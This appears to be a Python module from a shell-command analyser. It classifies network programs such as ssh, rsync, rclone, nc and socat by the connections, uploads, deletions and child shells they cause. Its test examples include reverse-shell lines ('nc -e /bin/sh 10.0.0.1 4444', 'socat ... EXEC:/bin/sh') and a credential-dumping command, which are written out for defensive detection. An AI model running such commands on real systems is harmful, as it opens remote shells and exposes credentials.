"""Programs that log in elsewhere or move files between machines: ssh, scp, sftp, rsync, rclone, nc, socat."""

from __future__ import annotations

import re
from typing import Final

import msgspec

from latch_contracts.facts import Access, Argument, NetAction, Operation
from latchd.shell.grammar.description import PREVIEW, Contact, Context, Description, Target, unique
from latchd.shell.grammar.options import Parsed, Style, literal, piece
from latchd.shell.grammar.program import acts, aimed, program


def _ssh(parsed: Parsed, _context: Context) -> Description:
    """ssh: host, then words that another shell runs."""
    if parsed.has("G", "V", "Q"):
        return PREVIEW
    operations = [Operation.CONNECT]
    details: list[str] = []
    if parsed.has("R", "L", "D", "w", "W"):
        operations.append(Operation.TUNNEL)
        details.append("tunnel")
    runs_here = any(
        word.value.lower()
        .replace(" ", "=")
        .startswith(("proxycommand=", "localcommand=", "knownhostscommand="))
        for word in parsed.values("o")
    )
    if runs_here:
        operations.append(Operation.EXECUTE)
        details.append("child-command")
    if len(parsed.operands) > 1:
        details.append("remote-command")
    read = parsed.values("i", "F", "I")
    jumps = parsed.values("J")
    return Description(
        known=True,
        operations=tuple(operations),
        targets=(*aimed(Access.METADATA, read), *aimed(Access.APPEND, parsed.values("E"))),
        contacts=tuple(Contact(NetAction.CONNECT, word) for word in (*jumps, *parsed.operands[:1])),
        details=tuple(details),
        reads_stdin=not parsed.has("n"),
    )


def is_remote(word: str) -> bool:
    """``host:path``, ``user@host:path`` or a URL: a colon before any slash."""
    if "://" in word:
        return True
    head, colon, _ = word.partition(":")
    return bool(colon) and "/" not in head and bool(head)


def _copies(parsed: Parsed, _context: Context) -> Description:
    """scp, rsync, rclone: all but the last operand are sources; either side may be remote."""
    sources, places = parsed.operands[:-1], parsed.operands[-1:]
    if len(parsed.operands) == 1:
        sources, places = parsed.operands, ()
    local = [word for word in sources if not is_remote(word.value)]
    remote = [word for word in sources if is_remote(word.value)]
    sends = bool(places) and is_remote(places[0].value)
    recursive = parsed.has("recursive", "archive")
    operations = [Operation.COPY]
    if remote or sends:
        operations.append(Operation.CONNECT)
    if sends:
        operations.append(Operation.UPLOAD)
    if remote:
        operations.append(Operation.FETCH)
    if local:
        operations.append(Operation.READ)
    written = () if sends else places
    if written:
        operations.append(Operation.WRITE)
    deletes = parsed.has(*_RSYNC_DELETES)
    details = ["recursive"] if recursive else []
    targets = [
        *aimed(Access.READ, local, recursive=recursive),
        *aimed(Access.READ, parsed.values("files-from", "exclude-from", "include-from", "password-file")),
        *aimed(Access.WRITE, (*written, *parsed.values("log-file"))),
    ]
    if deletes:
        operations.append(Operation.DELETE)
        targets += [Target(Access.DELETE, word, recursive=True) for word in written]
        details.append("remote-loss" if sends else "mirror-delete")
    if parsed.has("remove-source-files"):
        operations.append(Operation.DELETE)
        targets += [Target(Access.DELETE, word, recursive) for word in local]
    if parsed.has("rsh", "S", "o", "rsync-path"):
        details.append("child-command")
    return Description(
        known=True,
        operations=unique(operations),
        targets=tuple(targets),
        contacts=(
            *(Contact(NetAction.DOWNLOAD, word) for word in remote),
            *(Contact(NetAction.UPLOAD, word) for word in places if sends),
        ),
        details=tuple(details),
        uploads=tuple(local) if sends else (),
        saves=tuple(written) if remote else (),
        writes_stdout=parsed.has("verbose", "progress", "list-only"),
    )


_RSYNC_DELETES: Final = (
    "delete delete-before delete-during delete-delay delete-after delete-excluded delete-missing-args"
).split()


def _rsyncs(parsed: Parsed, context: Context) -> Description:
    if parsed.has("dry-run", "list-only"):
        return PREVIEW
    if parsed.has("daemon"):
        return Description(known=True, operations=(Operation.LISTEN,), details=("listener",))
    return _copies(parsed, context)


def _rclones(parsed: Parsed, context: Context) -> Description:
    verb = parsed.operands[0].value if parsed.operands else ""
    if parsed.has("dry-run"):
        return PREVIEW
    rest = Parsed(parsed.given, parsed.operands[1:], parsed.unknown, parsed.early, parsed.words)
    if verb in ("copy", "copyto", "sync", "move", "moveto", "bisync"):
        base = _copies(rest, context)
        if verb in ("sync", "bisync"):
            sends = any(contact.action is NetAction.UPLOAD for contact in base.contacts)
            gone = (
                () if sends else tuple(Target(Access.DELETE, w, recursive=True) for w in rest.operands[-1:])
            )
            return msgspec.structs.replace(
                base,
                operations=unique((*base.operations, Operation.DELETE)),
                targets=(*base.targets, *gone),
                details=(*base.details, "remote-loss" if sends else "mirror-delete"),
            )
        return base
    if verb in ("delete", "purge", "deletefile", "rmdirs", "cleanup"):
        remote = [word for word in rest.operands if is_remote(word.value)]
        return Description(
            known=True,
            operations=(Operation.DELETE, *((Operation.CONNECT,) if remote else ())),
            targets=tuple(
                Target(Access.DELETE, word, recursive=True)
                for word in rest.operands
                if not is_remote(word.value)
            ),
            contacts=tuple(Contact(NetAction.CONNECT, word) for word in remote),
            details=("cloud-loss",) if remote else ("recursive",),
        )
    if verb == "config" and any(word.value in ("show", "dump") for word in rest.operands):
        return Description(known=True, operations=(Operation.CREDENTIAL_READ,))
    if verb in ("cat", "ls", "lsl", "lsd", "lsf", "size", "check", "tree", "mount"):
        return Description(
            known=True,
            operations=(Operation.CONNECT, Operation.FETCH),
            contacts=tuple(
                Contact(NetAction.DOWNLOAD, word) for word in rest.operands[:1] if is_remote(word.value)
            ),
        )
    return Description(known=True, operations=(Operation.CONNECT,))


def _sftps(parsed: Parsed, context: Context) -> Description:
    """A client that is told line by line what to send: `put FILE` on stdin or in an option."""
    told = [context.text or "", *(word.value for word in parsed.values("e", "c"))]
    told.append(" ".join(word.value for word in parsed.operands[1:]))
    sent = tuple(literal(name) for text in told for name in _PUTS.findall(text))
    return Description(
        known=True,
        operations=(Operation.CONNECT, *((Operation.UPLOAD, Operation.READ) if sent else ())),
        targets=(*aimed(Access.READ, parsed.values("b")), *aimed(Access.READ, sent)),
        uploads=sent,
        contacts=tuple(
            Contact(NetAction.UPLOAD if sent else NetAction.CONNECT, word) for word in parsed.operands[:1]
        ),
        details=("opaque-code",) if parsed.has("b", "e", "c") else (),
        reads_stdin=True,
    )


_PUTS: Final = re.compile(
    r"(?:^|[;\n])[ \t]{0,8}(?:m?put|append|send)[ \t]{1,8}(?:-\w{1,8}[ \t]{1,8})?([^\s;]{1,512})"
)


def _hands_over(parsed: Parsed, _context: Context) -> Description:
    """croc, wormhole: `send FILE` puts it at a stranger's relay until somebody takes it."""
    verb = parsed.operands[0].value if parsed.operands else ""
    sent = parsed.operands[1:] if verb in ("send", "tx") else ()
    return Description(
        known=True,
        operations=(Operation.CONNECT, *((Operation.UPLOAD, Operation.READ) if sent else ())),
        targets=aimed(Access.READ, sent),
        uploads=sent,
    )


def _netcats(parsed: Parsed, _context: Context) -> Description:
    """nc: HOST PORT, or -l to listen; -e and -c hand the socket to a program."""
    shell = parsed.has("exec", "sh-exec", "lua-exec")
    details = [] if not shell else ["shell-child" if _hands_shell(parsed) else "child-command"]
    sockets = parsed.has("U")
    words = parsed.operands
    if parsed.has("listen"):
        return Description(
            known=True,
            operations=(Operation.LISTEN, *((Operation.EXECUTE,) if shell else ())),
            details=("listener", *details),
            reads_stdin=True,
        )
    if parsed.has("z"):
        return Description(
            known=True,
            operations=(Operation.CONNECT,),
            contacts=tuple(Contact(NetAction.CONNECT, word) for word in _host_port(words)),
            details=("probe",),
        )
    return Description(
        known=True,
        operations=(
            Operation.CONNECT,
            *((Operation.UPLOAD,) if _context.piped else ()),
            *((Operation.EXECUTE,) if shell else ()),
        ),
        targets=aimed(Access.CONNECT, words[:1] if sockets else ()),
        contacts=()
        if sockets
        else tuple(
            Contact(NetAction.UPLOAD if _context.piped else NetAction.CONNECT, word)
            for word in _host_port(words)
        ),
        details=(*details, *(("stdin-upload",) if _context.piped else ())),
        reads_stdin=True,
    )


_SHELLS: Final = frozenset(
    "sh bash dash zsh ksh ash fish csh tcsh busybox python python3 perl ruby cmd.exe powershell pwsh".split()
)


def _hands_shell(parsed: Parsed) -> bool:
    """Whether the program at the socket may be one that takes commands; `echo` and its like are not."""
    words = [word.value.split() for word in parsed.values("exec", "sh-exec")]
    if not words or parsed.has("lua-exec"):
        return True
    return any(
        not each or "\0" in each[0] or each[0].rpartition("/")[2].lower() in _SHELLS or "exec" in each
        for each in words
    )


def _host_port(words: tuple[Argument, ...]) -> tuple[Argument, ...]:
    if not words:
        return ()
    host, ports = words[0], words[1:2]
    if not ports or not ports[0].value.isdigit() or ":" in host.value:
        return (host,)
    return (Argument(value=f"{host.value}:{ports[0].value}", expands=host.expands),)


def _socats(parsed: Parsed, _context: Context) -> Description:
    """socat: two addresses, each TYPE:arguments,options."""
    operations: list[Operation] = []
    contacts: list[Contact] = []
    targets: list[Target] = []
    details: list[str] = []
    for word in parsed.operands[:2]:
        kind, _, rest = word.value.partition(":")
        kind = kind.upper().partition(",")[0]
        address = rest.partition(",")[0]
        if kind in ("EXEC", "SYSTEM", "SHELL"):
            operations.append(Operation.EXECUTE)
            details.append("shell-child")
        elif "LISTEN" in kind or kind.endswith(("-L", "-RECV", "-RECVFROM")):
            operations.append(Operation.LISTEN)
            details.append("listener")
        elif kind.startswith(("TCP", "UDP", "SSL", "OPENSSL", "SCTP", "SOCKS", "PROXY", "DTLS")):
            operations.append(Operation.CONNECT)
            contacts.append(Contact(NetAction.CONNECT, Argument(value=address, expands="\0" in address)))
        elif kind.startswith(("UNIX", "ABSTRACT")):
            targets.append(Target(Access.CONNECT, literal(address)))
        elif kind in ("OPEN", "CREATE", "FILE", "GOPEN"):
            targets.append(Target(Access.WRITE, literal(address)))
            operations.append(Operation.WRITE)
        elif "/" in word.value and ":" not in word.value:
            targets.append(Target(Access.WRITE, piece(word, 0, len(word.value.partition(",")[0]))))
            operations.append(Operation.WRITE)
    return Description(
        known=True,
        operations=unique(operations),
        targets=tuple(targets),
        contacts=tuple(contacts),
        details=tuple(dict.fromkeys(details)),
        reads_stdin=any(word.value in ("-", "STDIO", "STDIN") for word in parsed.operands),
    )


def _tunnels(parsed: Parsed, _context: Context) -> Description:
    """ngrok, cloudflared, frpc …: this machine becomes reachable from outside."""
    hosts = [word for word in parsed.operands if "://" in word.value or "." in word.value]
    return Description(
        known=True,
        operations=(Operation.TUNNEL, Operation.CONNECT),
        contacts=tuple(Contact(NetAction.TUNNEL, word) for word in hosts),
        details=("tunnel",),
    )


def _copies_key(parsed: Parsed, _context: Context) -> Description:
    return Description(
        known=True,
        operations=(Operation.CONNECT, Operation.CONFIG_CHANGE),
        targets=aimed(Access.METADATA, parsed.values("i")),
        contacts=tuple(Contact(NetAction.CONNECT, word) for word in parsed.operands[:1]),
        details=("remote-command",),
    )


def _mails(parsed: Parsed, _context: Context) -> Description:
    """Mail leaves the machine; recipients' domains are the peers."""
    people = (*parsed.operands, *parsed.values("to"))
    files = parsed.values("attach", "attachment", "body")
    return Description(
        known=True,
        operations=(Operation.UPLOAD, Operation.CONNECT, *((Operation.READ,) if files else ())),
        targets=aimed(Access.READ, files),
        contacts=tuple(
            Contact(NetAction.UPLOAD, piece(word, word.value.find("@") + 1))
            for word in people
            if "@" in word.value
        ),
        details=("stdin-upload",),
        uploads=files,
        reads_stdin=True,
    )


_SSH: Final = (
    "4 6 A a B= b= C c= D= E= e= F= f G g I= i= J= K k L= l= M m= N n O= o= P= p= Q= q R= S= s T t V v W= "
    "w= X x Y y"
)
_RSYNC: Final = (
    "~ r,recursive a,archive v,verbose n,dry-run e,rsh= delete,del delete-before delete-during "
    "delete-delay delete-after "
    "delete-excluded delete-missing-args remove-source-files f,filter= exclude= exclude-from= include= "
    "include-from= "
    "files-from= password-file= log-file= out-format= bwlimit= B,block-size= max-size= min-size= "
    "T,temp-dir= compare-dest= "
    "copy-dest= link-dest= port= timeout= contimeout= rsync-path= chmod= chown= backup-dir= suffix= "
    "partial-dir= progress "
    "list-only daemon M,remote-option= info= debug= skip-compress= usermap= groupmap= modify-window= "
    "max-delete= sockopts="
)

PROGRAMS: Final = (
    program(
        "autossh",
        _SSH.replace(" M ", " M= "),
        _ssh,
        {
            "autossh -M 0 -f -N -R 2222:localhost:22 me@example.com": (
                "connect tunnel connect@me@example.com +tunnel <stdin"
            ),
            "autossh -V": "preview",
        },
        style=Style.LEADING,
        previews="",
    ),
    program(
        "ssh dbclient slogin",
        _SSH,
        _ssh,
        {
            "ssh me@example.com": "connect connect@me@example.com <stdin",
            "ssh -p 22 -i key example.com uptime -p": (
                "connect metadata:key connect@example.com +remote-command <stdin"
            ),
            "ssh -R 80:localhost:80 example.com": "connect tunnel connect@example.com +tunnel <stdin",
            "ssh -G example.com": "preview",
            "ssh -o ProxyCommand=evil example.com": (
                "connect execute connect@example.com +child-command <stdin"
            ),
            "ssh -NL 1:a:2 example.com": "connect tunnel connect@example.com +tunnel <stdin",
        },
        style=Style.LEADING,
        previews="",
    ),
    program(
        "scp pscp",
        "3 4 6 A B C O p q R T v s r,recursive c= D= F= i= J= l= o= P= S= X=",
        _copies,
        {
            "scp a me@example.com:/tmp": (
                "copy connect upload read read:a upload@me@example.com:/tmp upload=a >none"
            ),
            "scp -r example.com:d .": (
                "copy connect fetch write write:. download@example.com:d save=. +recursive >none"
            ),
            "scp a b": "copy read write read:a write:b >none",
        },
        previews="",
    ),
    program(
        "rsync",
        _RSYNC,
        _rsyncs,
        {
            "rsync -a src/ dst": "copy read write read:src//** write:dst +recursive >none",
            "rsync -av --delete src/ dst/": (
                "copy read write delete read:src//** write:dst/ delete:dst//** +recursive +mirror-delete"
            ),
            "rsync -az . me@example.com:/srv": (
                "copy connect upload read read:./** upload@me@example.com:/srv upload=. +recursive >none"
            ),
            "rsync -an --delete a b": "preview",
            "rsync rsync://example.com/x .": (
                "copy connect fetch write write:. download@rsync://example.com/x save=. >none"
            ),
            "rsync -e 'ssh -p 1' a example.com:b": (
                "copy connect upload read read:a upload@example.com:b upload=a +child-command >none"
            ),
        },
    ),
    program(
        "rclone",
        "~ n,dry-run config= include= exclude= transfers= filter=",
        _rclones,
        {
            "rclone copy . remote:b": "copy connect upload read read:. upload@remote:b upload=. >none",
            "rclone purge remote:b": "delete connect connect@remote:b +cloud-loss",
            "rclone sync a remote:b": (
                "copy connect upload read delete read:a upload@remote:b upload=a +remote-loss >none"
            ),
            "rclone config show": "credential_read",
        },
    ),
    program(
        "sftp ftp lftp ncftp tftp telnet mosh psftp plink ftpget ftpput rlogin rsh",
        "~ b= B= c= D= F= i= J= l= o= P= R= S= s= p= u= e=",
        _sftps,
        {
            "sftp me@example.com": "connect connect@me@example.com <stdin",
            "lftp -e 'put a; quit' example.com": (
                "connect upload read read:a upload@example.com upload=a +opaque-code <stdin"
            ),
            "telnet example.com 23": "connect connect@example.com <stdin",
            "lftp -e cmds example.com": "connect connect@example.com +opaque-code <stdin",
        },
    ),
    program(
        "nc ncat netcat nc.openbsd nc.traditional nc.exe",
        "~ e,exec= c,sh-exec= lua-exec= l,listen p= s= w,wait= i= x= X= q= T= I= O= V= P= M= m= U z g= "
        "G= o,output= ssl proxy= proxy-type=",
        _netcats,
        {
            "nc example.com 80": "connect connect@example.com:80 <stdin",
            "nc -e /bin/sh 10.0.0.1 4444": "connect execute connect@10.0.0.1:4444 +shell-child <stdin",
            "nc -lvp 4444": "listen +listener <stdin",
            "nc -l -p 80 -c 'echo hi'": "listen execute +listener +child-command <stdin",
            "| nc example.com 9": "connect upload upload@example.com:9 +stdin-upload <stdin",
            "nc -zv localhost 80": "connect connect@localhost:80 +probe",
            "nc -U /run/x.sock": "connect connect:/run/x.sock <stdin",
        },
    ),
    program(
        "socat",
        "~ L= W= t= T= b= lf lp=",
        _socats,
        {
            "socat TCP:example.com:80 EXEC:/bin/sh": "connect execute connect@example.com:80 +shell-child",
            "socat TCP-LISTEN:80,fork TCP:localhost:8080": "listen connect connect@localhost:8080 +listener",
            "socat - UNIX-CONNECT:/run/a": "connect:/run/a <stdin",
        },
    ),
    program(
        "ngrok cloudflared localtunnel lt bore chisel frpc frps gost tailscale wg-quick openvpn iodine "
        "dnscat ptunnel "
        "ligolo proxychains proxychains4 tor sshuttle zrok pagekite",
        "~ c= config= authtoken= region= p,port= r,remote=",
        _tunnels,
        {
            "ngrok http 80": "tunnel connect +tunnel",
            "chisel client example.com R:80": "tunnel connect tunnel@example.com +tunnel",
        },
    ),
    program(
        "ssh-copy-id",
        "f n s i= p= o= F= t=",
        _copies_key,
        {
            "ssh-copy-id -i k me@example.com": (
                "connect config_change metadata:k connect@me@example.com +remote-command"
            )
        },
    ),
    program(
        "mail mailx mutt s-nail sendmail msmtp swaks",
        "~ s= c= b= r= a,attach,A= attachment= to= from= server= body= f= F= q= S= t",
        _mails,
        {
            "mail -s x me@example.com": "upload connect upload@example.com +stdin-upload <stdin",
            "mutt -a f -- me@example.com": (
                "upload connect read read:f upload@example.com upload=f +stdin-upload <stdin"
            ),
        },
    ),
    program(
        "wormhole magic-wormhole croc",
        "~ code= text= relay= pass= c= port=",
        _hands_over,
        {"croc send a": "connect upload read read:a upload=a", "wormhole receive 1-x": "connect"},
    ),
    program(
        "websocat wscat grpcurl smbclient sshfs curlftpfs mount.nfs "
        "mount.cifs transmission-cli "
        "gnutls-cli iperf iperf3",
        "~",
        acts(Operation.CONNECT),
        {"wscat -c ws://localhost": "connect"},
    ),
)
